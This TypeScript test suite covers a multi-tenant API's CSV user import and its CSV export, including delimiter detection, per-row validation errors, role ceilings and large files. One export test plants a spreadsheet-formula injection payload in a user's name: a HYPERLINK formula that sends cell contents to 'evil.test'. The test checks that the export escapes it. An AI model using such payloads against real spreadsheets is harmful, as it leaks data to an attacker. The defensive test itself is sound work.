import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp, type TestClient } from '../helpers/app.ts';
import { apiCreateUser, roleId, signIn } from '../helpers/fixtures.ts';

/**
 * CSV imports through the API: files built here (header or not, BOM, semicolons, tabs, quoted
 * commas, quotes and line breaks, duplicates in the file and against the tenant, 100k rows), the
 * dry run's per-row errors, the run, its report, the rules shared with `POST …/users`, and export.
 */
let t: TestApp;
let tenant: string;
let salesGroup: string;
let importer: TestClient;
const base = () => `/api/v1/tenants/${tenant}/imports`;

beforeAll(async () => {
  t = await createTestApp({ env: { ROLLCALL_IMPORT_MAX_MB: '8' } });
  tenant = (await t.admin.post('/api/v1/tenants', { name: 'Import Co', slug: 'import-co' })).json().id;
  salesGroup = (await t.admin.post(`/api/v1/tenants/${tenant}/groups`, { name: 'Sales' })).json().id;
  // a help-desk importer: may import and create users, but holds no role-management permissions
  const role = await t.admin.post(`/api/v1/tenants/${tenant}/roles`, {
    name: 'Onboarding Clerk',
    permissions: [
      ...['console.access', 'portal.access', 'users.scope.self', 'flows.tasks'],
      ...['users.read', 'users.create', 'users.scope.all', 'imports.run'],
    ],
  });
  expect(role.statusCode, role.body).toBe(201);
  await apiCreateUser(t.admin, tenant, { email: 'clerk@import.test', roleIds: [role.json().id] });
  importer = await signIn(t.app, 'import-co', 'clerk@import.test');
  await apiCreateUser(t.admin, tenant, { email: 'taken@acme.test', username: 'takenuser', firstName: 'Old' });
});
afterAll(async () => {
  await t?.close();
});

function upload(csv: string | Buffer, query = '', client: TestClient = t.admin, type = 'text/csv') {
  return client.request({
    method: 'POST',
    url: `${base()}${query}`,
    payload: typeof csv === 'string' ? Buffer.from(csv) : csv,
    headers: { 'content-type': type },
  });
}

async function uploaded(csv: string | Buffer, query = '', client: TestClient = t.admin) {
  const res = await upload(csv, query, client);
  expect(res.statusCode, res.body).toBe(201);
  return res.json();
}

async function settle(id: string, client: TestClient = t.admin) {
  for (let i = 0; i < 1200; i++) {
    const body = (await client.get(`${base()}/${id}`)).json();
    if (body.status !== 'validating' && body.status !== 'running') return body;
    await new Promise((r) => setTimeout(r, 50));
  }
  throw new Error('import did not settle');
}

async function pass(id: string, phase: 'dry-run' | 'run', options: object, client: TestClient = t.admin) {
  const res = await client.post(`${base()}/${id}/${phase}`, options);
  expect(res.statusCode, res.body).toBe(202);
  return settle(id, client);
}

async function rows(id: string, query = '') {
  const items: Array<{
    row: number;
    outcome: string;
    code: string | null;
    message: string | null;
    login: string;
    userId: string | null;
  }> = [];
  let cursor: string | null = null;
  do {
    const res = await t.admin.get(
      `${base()}/${id}/rows?limit=500${query}${cursor ? `&cursor=${cursor}` : ''}`,
    );
    expect(res.statusCode, res.body).toBe(200);
    items.push(...res.json().items);
    cursor = res.json().nextCursor;
  } while (cursor);
  return items;
}

const byIndex = (...fields: Array<string | null>) =>
  fields.flatMap((field, index) => (field ? [{ index, field }] : []));

const userByEmail = async (email: string) =>
  (await t.admin.get(`/api/v1/tenants/${tenant}/users?q=${encodeURIComponent(email)}&status=all`))
    .json()
    .items.find((u: { email: string }) => u.email === email);

describe('CSV import: upload and inspection', () => {
  it('reads a header row, suggests a mapping and previews the first rows', async () => {
    const imp = await uploaded(
      'First name,Last name,E-mail,Department\nMarta,Schmidt,marta@acme.test,Sales\n',
      '?fileName=staff.csv',
    );
    expect(imp).toMatchObject({
      fileName: 'staff.csv',
      status: 'uploaded',
      delimiter: ',',
      hasBom: false,
      recordCount: 2,
      columnCount: 4,
      suggestedHasHeader: true,
      preview: [
        ['First name', 'Last name', 'E-mail', 'Department'],
        ['Marta', 'Schmidt', 'marta@acme.test', 'Sales'],
      ],
    });
    expect(imp.columns.map((c: { suggestedField: string }) => c.suggestedField)).toEqual([
      'firstName',
      'lastName',
      'email',
      'department',
    ]);
    expect(imp.columns[2].samples).toEqual(['marta@acme.test']);
    expect((await t.admin.get(`${base()}/${imp.id}`)).json().id).toBe(imp.id);
    expect((await t.admin.get(base())).json().items.some((i: { id: string }) => i.id === imp.id)).toBe(true);
  });

  it('detects semicolons, tabs and a byte-order mark; a file without a header is seen as one', async () => {
    const semi = await uploaded('\uFEFFAnna;Berg;anna@acme.test\nBo;Lind;bo@acme.test\n');
    expect(semi).toMatchObject({ delimiter: ';', hasBom: true, suggestedHasHeader: false, columnCount: 3 });
    expect(semi.preview[0]).toEqual(['Anna', 'Berg', 'anna@acme.test']);
    const tabs = await uploaded('given\tfamily\tmail\nAl\tMo\tal@acme.test\n');
    expect(tabs).toMatchObject({ delimiter: '\t', columnCount: 3 });
    const forced = await uploaded('a,b;c\n', '?delimiter=;');
    expect(forced.preview).toEqual([['a,b', 'c']]);
  });

  it('refuses what is not a CSV file it can read, with a code for each reason', async () => {
    const cases: Array<[string | Buffer, string, number]> = [
      ['', 'import.empty_file', 400],
      ['\n ; \n', 'import.empty_file', 400],
      [Buffer.from('\uFEFFname\n', 'utf16le'), 'import.invalid_encoding', 400],
      [Buffer.from([0x4e, 0x61, 0x6d, 0xe9, 0x0a]), 'import.invalid_encoding', 400],
      ['a,"unclosed\nb,c\n', 'import.malformed_csv', 400],
      ['a,"x"y,b\n', 'import.malformed_csv', 400],
      [`${Array.from({ length: 201 }, (_, i) => `c${i}`).join(',')}\n`, 'import.too_many_columns', 400],
      [Buffer.alloc(9 * 1_048_576, 'a,b\n'), 'import.file_too_large', 413],
    ];
    for (const [body, code, status] of cases) {
      const res = await upload(body);
      expect([res.statusCode, res.json().code], String(body).slice(0, 30)).toEqual([status, code]);
    }
    const json = await upload('{"a":1}', '', t.admin, 'application/json');
    expect([json.statusCode, json.json().code]).toEqual([415, 'request.unsupported_media_type']);
    const xml = await upload('<a/>', '', t.admin, 'application/xml');
    expect([xml.statusCode, xml.json().code]).toEqual([415, 'request.unsupported_media_type']);
    // nothing is kept of a refused upload
    const kept = await t.ownerQuery(
      `select count(*)::int as n from imports where tenant_id = $1 and record_count = 0`,
      [tenant],
    );
    expect(kept.rows[0].n).toBe(0);
  });

  it('needs imports.run and users.create; another tenant’s import is not found', async () => {
    await apiCreateUser(t.admin, tenant, { email: 'viewer@import.test' });
    const viewer = await signIn(t.app, 'import-co', 'viewer@import.test');
    const res = await upload('a,b\n', '', viewer);
    expect([res.statusCode, res.json().code]).toEqual([403, 'auth.forbidden']);
    const imp = await uploaded('a,b\n');
    const elsewhere = await t.admin.get(`/api/v1/tenants/${t.providerId}/imports/${imp.id}`);
    expect([elsewhere.statusCode, elsewhere.json().code]).toEqual([404, 'import.not_found']);
  });
});

describe('CSV import: mapping, dry run and run', () => {
  const FILE = [
    'First name,Last name,Email,Username,Groups,Hire date,Leave date,Time zone,Type',
    'Marta,Schmidt,marta@acme.test,marta,Sales;Help Desk,2024-01-02,,Europe/Berlin,internal',
    'Ben,,ben@acme.test,ben,,,,,',
    'Cleo,Ray,not-an-email,cleo,,,,,',
    'Dan,Dup,dup@acme.test,dan,,,,,',
    'Eve,Dup,DUP@acme.test,eve,,,,,',
    'Fay,Taken,Taken@acme.test,fay,,,,,',
    'Gus,Taken,gus@acme.test,TakenUser,,,,,',
    'Hal,Role,hal@acme.test,hal,Astronauts,,,,',
    'Jon,Dates,jon@acme.test,jon,,2024-05-01,2023-01-01,,',
    'Kim,Dates,kim@acme.test,kim,,2024-13-45,,,',
    'Lou,Zone,lou@acme.test,lou,,,,Mars/Olympus,',
    'Max,Type,max@acme.test,max,,,,,alien',
    'Ned,Nologin,,,,,,,',
    'Oli,Name,oli@acme.test,o,,,,,',
    '"Ode, Jr.","Quoted ""Q""",ode@acme.test,ode,,,,,',
    'Pam,"Two\nLines",pam@acme.test,pam,,,,,',
    'Quinn,Extra,quinn@acme.test,quinn,,,,,,surplus',
    ',,,,,,,,',
  ].join('\r\n');
  const OPTIONS = {
    hasHeader: true,
    columns: byIndex(
      'firstName',
      'lastName',
      'email',
      'username',
      'rolesAndGroups',
      'hireDate',
      'leaveDate',
      'timeZone',
      'kind',
    ),
  };
  const EXPECTED_FAILURES = [
    [3, 'import.missing_required'],
    [4, 'import.invalid_email'],
    [5, 'import.duplicate_in_file'],
    [6, 'import.duplicate_in_file'],
    [7, 'user.email_taken'],
    [8, 'user.username_taken'],
    [9, 'import.unknown_role_or_group'],
    [10, 'user.invalid_dates'],
    [11, 'user.invalid_dates'],
    [12, 'user.invalid_time_zone'],
    [13, 'import.invalid_value'],
    [14, 'user.email_or_username_required'],
    [15, 'import.invalid_value'],
    [18, 'import.extra_columns'],
  ];
  let id: string;

  it('refuses a mapping that lacks names or a login, reaches past the file, or maps twice', async () => {
    id = (await uploaded(FILE, '?fileName=acme.csv')).id;
    const bad = async (options: object, messages: RegExp) => {
      const res = await t.admin.post(`${base()}/${id}/dry-run`, options);
      expect([res.statusCode, res.json().code], res.body).toEqual([400, 'import.mapping_invalid']);
      expect(res.json().detail).toMatch(messages);
    };
    await bad({ hasHeader: true, columns: byIndex(null, null, 'email') }, /first and last names/);
    await bad({ hasHeader: true, columns: byIndex('firstName', 'lastName') }, /email or a username/);
    await bad(
      {
        hasHeader: true,
        columns: [...byIndex('firstName', 'lastName', 'email'), { index: 12, field: 'department' }],
      },
      /no column 13/,
    );
    await bad(
      { hasHeader: true, columns: byIndex('firstName', 'lastName', 'email', 'email') },
      /Email is mapped to two columns/,
    );
    await bad({ hasHeader: true, columns: byIndex('fullName', 'lastName', 'email') }, /either a full name/);
    await bad({ ...OPTIONS, existing: 'update', matchBy: 'employeeId' }, /employee id needs that column/);
    const schema = await t.admin.post(`${base()}/${id}/dry-run`, {
      hasHeader: true,
      columns: [{ index: 0, field: 'shoeSize' }],
    });
    expect([schema.statusCode, schema.json().code]).toEqual([400, 'request.invalid']);
    expect((await t.admin.get(`${base()}/${id}`)).json().status).toBe('uploaded');
  });

  it('the dry run reports every bad row with its reason and writes nothing', async () => {
    const before = await t.ownerQuery(`select count(*)::int as n from users where tenant_id = $1`, [tenant]);
    const done = await pass(id, 'dry-run', OPTIONS);
    expect(done).toMatchObject({
      status: 'validated',
      phase: 'dry_run',
      progress: { total: 18, done: 18, created: 3, failed: EXPECTED_FAILURES.length },
    });
    const failures = await rows(id);
    expect(failures.map((r) => [r.row, r.code])).toEqual(EXPECTED_FAILURES);
    expect(failures.find((r) => r.row === 5)!.message).toBe('The email “dup@acme.test” is also in row 6.');
    expect(failures.find((r) => r.row === 9)!.message).toMatch(/Astronauts/);
    const after = await t.ownerQuery(`select count(*)::int as n from users where tenant_id = $1`, [tenant]);
    expect(after.rows[0].n).toBe(before.rows[0].n);
  });

  it('the run imports the valid rows, each whole, with roles and groups by name, and reports every row', async () => {
    const done = await pass(id, 'run', OPTIONS);
    expect(done).toMatchObject({
      status: 'completed',
      phase: 'run',
      progress: { total: 18, done: 18, created: 3 },
    });
    const report = await rows(id);
    expect(report.filter((r) => r.outcome === 'failed').map((r) => [r.row, r.code])).toEqual(
      EXPECTED_FAILURES,
    );
    expect(report.filter((r) => r.outcome === 'created').map((r) => r.login)).toEqual([
      'marta@acme.test',
      'ode@acme.test',
      'pam@acme.test',
    ]);
    const marta = (
      await t.admin.get(`/api/v1/tenants/${tenant}/users/${(await userByEmail('marta@acme.test')).id}`)
    ).json();
    expect(marta).toMatchObject({
      status: 'active',
      hireDate: '2024-01-02',
      timeZone: 'Europe/Berlin',
      kind: 'internal',
    });
    expect(marta.roles.map((r: { name: string }) => r.name)).toEqual(['Help Desk']);
    expect(marta.groups.map((g: { name: string }) => g.name)).toEqual(['Sales']);
    const ode = await userByEmail('ode@acme.test');
    expect([ode.firstName, ode.lastName]).toEqual(['Ode, Jr.', 'Quoted "Q"']);
    expect((await userByEmail('pam@acme.test')).lastName).toBe('Two\nLines');
    // a file with no role column gives the base role and the Default group, as `POST …/users` does
    expect(ode.roles.map((r: { name: string }) => r.name)).toEqual(['User']);
    expect(ode.groups.map((g: { name: string }) => g.name)).toEqual(['Default']);

    const csv = await t.admin.get(`${base()}/${id}/report`);
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    expect(csv.headers['content-disposition']).toBe('attachment; filename="acme-report.csv"');
    const lines = csv.body
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    expect(lines[0]).toBe('row,outcome,user_id,login,code,reason');
    expect(lines).toHaveLength(1 + 17);
    expect(lines[1]).toMatch(/^2,created,[0-9a-f-]{36},marta@acme\.test,,$/);
    expect(lines[2]).toBe('3,failed,,ben@acme.test,import.missing_required,Last name is required.');
    const dryCsv = await t.admin.get(`${base()}/${id}/report?phase=dry_run`);
    expect(dryCsv.body.trim().split('\r\n')).toHaveLength(1 + EXPECTED_FAILURES.length);

    // one audit event per user, one for the import, and the chain intact
    const created = report.filter((r) => r.outcome === 'created').map((r) => r.userId);
    const audit = await t.ownerQuery(
      `select action, count(*)::int as n from audit_events where tenant_id = $1
        and (target_id = any($2::text[]) or target_id = $3) group by action order by action`,
      [tenant, created, id],
    );
    expect(audit.rows).toEqual([
      { action: 'import.completed', n: 1 },
      { action: 'import.uploaded', n: 1 },
      { action: 'user.created', n: 3 },
    ]);
    expect((await t.admin.get(`/api/v1/tenants/${tenant}/audit/verify`)).json().ok).toBe(true);
    const stored = await t.ownerQuery(`select count(*)::int as n from import_chunks where import_id = $1`, [
      id,
    ]);
    expect(stored.rows[0].n).toBe(0);
  });

  it('a finished import cannot run again or be cancelled', async () => {
    const again = await t.admin.post(`${base()}/${id}/run`, OPTIONS);
    expect([again.statusCode, again.json().code]).toEqual([409, 'import.not_startable']);
    const cancel = await t.admin.post(`${base()}/${id}/cancel`);
    expect([cancel.statusCode, cancel.json().code]).toEqual([409, 'import.not_cancellable']);
  });

  it('maps columns of a file without a header by position; roles and groups columns by name', async () => {
    const imp = await uploaded(
      'Vera Lynn;vera@acme.test;Help Desk|User;Sales;not mapped\nWes Ong;wes@acme.test;Pilots;Sales;\nXia Zhu;xia@acme.test;User;Drivers;x\n',
    );
    expect(imp.suggestedHasHeader).toBe(false);
    const options = {
      hasHeader: false,
      columns: byIndex('fullName', 'email', 'roles', 'groups'),
      separator: '|',
    };
    const done = await pass(imp.id, 'run', options);
    expect(done.progress).toMatchObject({ total: 3, created: 1, failed: 2 });
    expect((await rows(imp.id, '&outcome=failed')).map((r) => [r.row, r.code])).toEqual([
      [2, 'import.unknown_role'],
      [3, 'import.unknown_group'],
    ]);
    const vera = await userByEmail('vera@acme.test');
    expect([vera.firstName, vera.lastName]).toEqual(['Vera', 'Lynn']);
    expect(vera.roles.map((r: { name: string }) => r.name)).toEqual(['Help Desk', 'User']);
    expect(vera.groups.map((g: { id: string }) => g.id)).toEqual([salesGroup]);
  });

  it('updates existing users by a key column, or skips them, through the users rules', async () => {
    const hal = await apiCreateUser(t.admin, tenant, {
      email: 'hal@update.test',
      jobTitle: 'Clerk',
      firstName: 'Hal',
    });
    const ida = await apiCreateUser(t.admin, tenant, {
      email: 'ida@update.test',
      jobTitle: 'Clerk',
      firstName: 'Ida',
    });
    const jo = await apiCreateUser(t.admin, tenant, {
      email: 'jo@update.test',
      jobTitle: 'Clerk',
      firstName: 'Jo',
    });
    await t.ownerQuery(`update users set source = 'scim', source_attributes = '{jobTitle}' where id = $1`, [
      jo.id,
    ]);
    const file = [
      'email,first,last,title,groups',
      'HAL@update.test,Hal,Person,Manager,Sales',
      `ida@update.test,Ida,${ida.lastName},Clerk,`,
      'jo@update.test,Jo,Person,Director,',
      'new@update.test,New,Person,Analyst,',
    ].join('\n');
    const options = {
      hasHeader: true,
      columns: byIndex('email', 'firstName', 'lastName', 'jobTitle', 'groups'),
      existing: 'update',
      matchBy: 'email',
    };
    const imp = await uploaded(file);
    const dry = await pass(imp.id, 'dry-run', options);
    expect(dry.progress).toMatchObject({ created: 1, updated: 2, failed: 1 });
    expect((await t.admin.get(`/api/v1/tenants/${tenant}/users/${hal.id}`)).json().jobTitle).toBe('Clerk');
    const done = await pass(imp.id, 'run', options);
    expect(done.progress).toMatchObject({ created: 1, updated: 2, failed: 1 });
    expect((await rows(imp.id)).map((r) => [r.row, r.outcome, r.code])).toEqual([
      [2, 'updated', null],
      [3, 'unchanged', null],
      [4, 'failed', 'user.attribute_mastered_by_source'],
      [5, 'created', null],
    ]);
    const updated = (await t.admin.get(`/api/v1/tenants/${tenant}/users/${hal.id}`)).json();
    expect(updated).toMatchObject({ jobTitle: 'Manager', lastName: 'Person', email: 'hal@update.test' });
    expect(updated.groups.map((g: { name: string }) => g.name).sort()).toEqual(['Default', 'Sales']);

    const skip = await uploaded(file);
    const skipped = await pass(skip.id, 'run', { ...options, existing: 'skip' });
    expect(skipped.progress).toMatchObject({ created: 0, skipped: 4, failed: 0 });
    const updateNeedsPermission = await importer.post(`${base()}/${skip.id}/dry-run`, options);
    expect([updateNeedsPermission.statusCode, updateNeedsPermission.json().code]).toEqual([
      403,
      'auth.forbidden',
    ]);
  });

  it('an importer cannot give more than they hold (rule 13), per row or as a default', async () => {
    const imp = await uploaded(
      'Rae,Low,rae@acme.test,User\nSam,High,sam@acme.test,Tenant Admin\n',
      '',
      importer,
    );
    const options = { hasHeader: false, columns: byIndex('firstName', 'lastName', 'email', 'roles') };
    const done = await pass(imp.id, 'run', options, importer);
    expect(done.progress).toMatchObject({ created: 1, failed: 1 });
    expect((await rows(imp.id, '&outcome=failed')).map((r) => [r.row, r.code])).toEqual([
      [2, 'role.ceiling'],
    ]);
    const again = await uploaded('Tia,Top,tia@acme.test,User\n', '', importer);
    const res = await importer.post(`${base()}/${again.id}/dry-run`, {
      ...options,
      defaults: { roleIds: [await roleId(t.admin, tenant, 'tenant_admin')] },
    });
    expect([res.statusCode, res.json().code]).toEqual([403, 'role.ceiling']);
  });
});

describe('CSV import: a large file, one at a time, cancel, lost access', () => {
  const big = (count: number, prefix: string, plant = (_i: number, line: string) => line) =>
    `first,last,email,username\n${Array.from({ length: count }, (_, i) =>
      plant(i, `Given${i},Family${i},${prefix}${i}@big.test,${prefix}${i}`),
    ).join('\n')}\n`;

  it('checks 100,000 rows in a dry run, streamed, and finds the planted faults', async () => {
    const file = big(100_000, 'p', (i, line) => {
      if (i === 49_999) return 'Dupe,Row,p0@big.test,dupe1';
      if (i === 77_776) return 'Bad,Mail,nope,bad1';
      if (i === 99_998) return 'Twin,Name,twin@big.test,p99997';
      return line;
    });
    const imp = await uploaded(file);
    expect(imp.recordCount).toBe(100_001);
    const other = await uploaded('a,b,c@x.test\n');
    const res = await t.admin.post(`${base()}/${imp.id}/dry-run`, {
      hasHeader: true,
      columns: byIndex('firstName', 'lastName', 'email', 'username'),
    });
    expect(res.statusCode).toBe(202);
    // one import per tenant at a time
    const second = await t.admin.post(`${base()}/${other.id}/dry-run`, {
      hasHeader: false,
      columns: byIndex('firstName', 'lastName', 'email'),
    });
    expect([second.statusCode, second.json().code, second.json().details]).toEqual([
      409,
      'import.already_running',
      { importId: imp.id },
    ]);
    const done = await settle(imp.id);
    expect(done.progress).toMatchObject({ total: 100_000, done: 100_000, failed: 5, created: 99_995 });
    expect((await rows(imp.id)).map((r) => [r.row, r.code])).toEqual([
      [2, 'import.duplicate_in_file'],
      [50_001, 'import.duplicate_in_file'],
      [77_778, 'import.invalid_email'],
      [99_999, 'import.duplicate_in_file'],
      [100_000, 'import.duplicate_in_file'],
    ]);
  }, 120_000);

  it('cancels a running pass, and discards an upload that is not running', async () => {
    const imp = await uploaded(big(30_000, 'c'));
    await t.admin.post(`${base()}/${imp.id}/dry-run`, {
      hasHeader: true,
      columns: byIndex('firstName', 'lastName', 'email'),
    });
    const cancel = await t.admin.post(`${base()}/${imp.id}/cancel`);
    expect([cancel.statusCode, cancel.json().cancelRequested]).toEqual([200, true]);
    const stopped = await settle(imp.id);
    expect(stopped.status).toBe('uploaded');
    expect(stopped.progress.done).toBeLessThan(30_000);
    const discarded = await t.admin.post(`${base()}/${imp.id}/cancel`);
    expect(discarded.json().status).toBe('cancelled');
    const chunks = await t.ownerQuery(`select count(*)::int as n from import_chunks where import_id = $1`, [
      imp.id,
    ]);
    expect(chunks.rows[0].n).toBe(0);
  });

  it('stops when the importer loses the right to import', async () => {
    const imp = await uploaded(big(20_000, 'l'), '', importer);
    const res = await importer.post(`${base()}/${imp.id}/dry-run`, {
      hasHeader: true,
      columns: byIndex('firstName', 'lastName', 'email'),
    });
    expect(res.statusCode).toBe(202);
    const clerk = await userByEmail('clerk@import.test');
    expect((await t.admin.post(`/api/v1/tenants/${tenant}/users/${clerk.id}/suspend`)).statusCode).toBe(200);
    const done = await settle(imp.id);
    expect([done.status, done.error?.code]).toEqual(['failed', 'import.importer_lost_access']);
  });
});

describe('CSV import: files nobody imports', () => {
  it('an upload untouched for a week is deleted and its import closed as expired; a report stays', async () => {
    const stale = await uploaded('First,Last,Email\nStale,Person,stale@import.test\n');
    const done = await uploaded('First,Last,Email\nKept,Report,kept.report@import.test\n');
    const mapping = {
      hasHeader: true,
      columns: [
        { index: 0, field: 'firstName' },
        { index: 1, field: 'lastName' },
        { index: 2, field: 'email' },
      ],
    };
    expect((await pass(done.id, 'run', mapping)).status).toBe('completed');
    const { expireStaleUploads } = await import('../../src/modules/imports/imports.cleanup.ts');
    const chunks = async (id: string) =>
      (await t.ownerQuery('select count(*)::int as n from import_chunks where import_id = $1', [id])).rows[0]
        .n;
    expect(await expireStaleUploads(t.rollcall.platform)).toBe(0);
    expect(await chunks(stale.id)).toBeGreaterThan(0);

    t.clock.advance(8 * 86_400_000);
    try {
      expect(await expireStaleUploads(t.rollcall.platform)).toBeGreaterThanOrEqual(1);
    } finally {
      t.clock.advance(-8 * 86_400_000);
    }
    expect(await chunks(stale.id)).toBe(0);
    expect(await chunks(done.id)).toBe(0);
    const closed = (await t.admin.get(`${base()}/${stale.id}`)).json();
    expect(closed.status).toBe('cancelled');
    expect(closed.error).toMatchObject({ code: 'import.expired' });
    // the finished import keeps its report
    expect((await t.admin.get(`${base()}/${done.id}`)).json().status).toBe('completed');
    expect((await rows(done.id)).length).toBe(1);
    const audit = (await t.admin.get(`/api/v1/tenants/${tenant}/audit?action=import.expired`)).json();
    expect(audit.items.some((e: { target: { id: string } }) => e.target.id === stale.id)).toBe(true);
    // running it again finds nothing
    t.clock.advance(8 * 86_400_000);
    try {
      expect(await expireStaleUploads(t.rollcall.platform)).toBe(0);
    } finally {
      t.clock.advance(-8 * 86_400_000);
    }
  });
});

describe('CSV export of the users list', () => {
  it('streams the filtered list with the columns asked for, in their order', async () => {
    const res = await t.admin.get(
      `/api/v1/tenants/${tenant}/users/export?q=update.test&status=active&sort=email:desc&columns=email,firstName,groups,licensed`,
    );
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename="users-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(
      res.body
        .replace(/^\uFEFF/, '')
        .trim()
        .split('\r\n'),
    ).toEqual([
      'email,first_name,groups,licensed',
      'new@update.test,New,Default,no',
      'jo@update.test,Jo,Default,no',
      'ida@update.test,Ida,Default,no',
      'hal@update.test,Hal,Default; Sales,no',
    ]);
    const all = await t.admin.get(`/api/v1/tenants/${tenant}/users/export`);
    const count = (await t.admin.get(`/api/v1/tenants/${tenant}/users?limit=1`)).json().total;
    expect(all.body.trim().split('\r\n')).toHaveLength(1 + count);
    expect(all.body.replace(/^\uFEFF/, '').split('\r\n')[0]).toBe(
      'first_name,last_name,email,username,status,job_title,department,roles,groups',
    );
  });

  it('writes what a spreadsheet would run as a formula as text (CSV injection)', async () => {
    const mallory = await apiCreateUser(t.admin, tenant, { email: 'mallory@formula.test', firstName: 'Mal' });
    const own = await signIn(t.app, 'import-co', 'mallory@formula.test');
    const named = await own.patch('/api/v1/me/profile', {
      firstName: '=HYPERLINK("http://evil.test/?"&A1,"x")',
    });
    expect(named.statusCode, named.body).toBe(200);
    await t.admin.patch(`/api/v1/tenants/${tenant}/users/${mallory.id}`, {
      jobTitle: '+SUM(1,2)',
      department: '@cmd',
    });
    const res = await t.admin.get(
      `/api/v1/tenants/${tenant}/users/export?q=formula.test&columns=firstName,jobTitle,department,email`,
    );
    const line = res.body
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n')[1]!;
    expect(line).toBe(
      `"'=HYPERLINK(""http://evil.test/?""&A1,""x"")","'+SUM(1,2)",'@cmd,mallory@formula.test`,
    );
  });

  it('keeps to the caller’s data scope and refuses unknown columns and callers without imports.run', async () => {
    const role = await t.admin.post(`/api/v1/tenants/${tenant}/roles`, {
      name: 'Sales Lead',
      permissions: ['console.access', 'users.read', 'users.scope.department', 'imports.run', 'users.create'],
    });
    await apiCreateUser(t.admin, tenant, {
      email: 'lead@import.test',
      department: 'Sales',
      roleIds: [role.json().id],
    });
    await apiCreateUser(t.admin, tenant, { email: 'rep@import.test', department: 'Sales' });
    const lead = await signIn(t.app, 'import-co', 'lead@import.test');
    const scoped = await lead.get(
      `/api/v1/tenants/${tenant}/users/export?columns=email,department&sort=email:asc`,
    );
    expect(
      scoped.body
        .replace(/^\uFEFF/, '')
        .trim()
        .split('\r\n'),
    ).toEqual(['email,department', 'lead@import.test,Sales', 'rep@import.test,Sales']);
    const unknown = await t.admin.get(`/api/v1/tenants/${tenant}/users/export?columns=email,password`);
    expect([unknown.statusCode, unknown.json().code]).toEqual([400, 'export.unknown_column']);
    const viewer = await signIn(t.app, 'import-co', 'viewer@import.test');
    const refused = await viewer.get(`/api/v1/tenants/${tenant}/users/export`);
    expect([refused.statusCode, refused.json().code]).toEqual([403, 'auth.forbidden']);
  });
});
